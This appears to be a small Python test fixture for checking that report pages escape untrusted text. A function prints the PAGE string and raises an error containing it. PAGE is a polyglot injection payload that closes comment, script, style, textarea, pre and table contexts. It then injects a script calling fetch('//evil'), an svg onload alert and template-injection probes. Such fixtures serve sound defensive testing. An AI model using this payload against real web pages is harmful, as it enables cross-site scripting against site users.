"""Raises, prints and returns HTML that closes every element and opens its own.

Aims at: pages made of the report
Acts at: call
Outcome: status error, code value
Stopped by: cleaning
"""

PAGE = "--></script></style></textarea></pre></table><script>fetch('//evil')</script><svg/onload=alert(1)>{{7*7}}${7*7}"


def make_cross(size=7):
    print(PAGE)
    raise ValueError(PAGE, [PAGE])
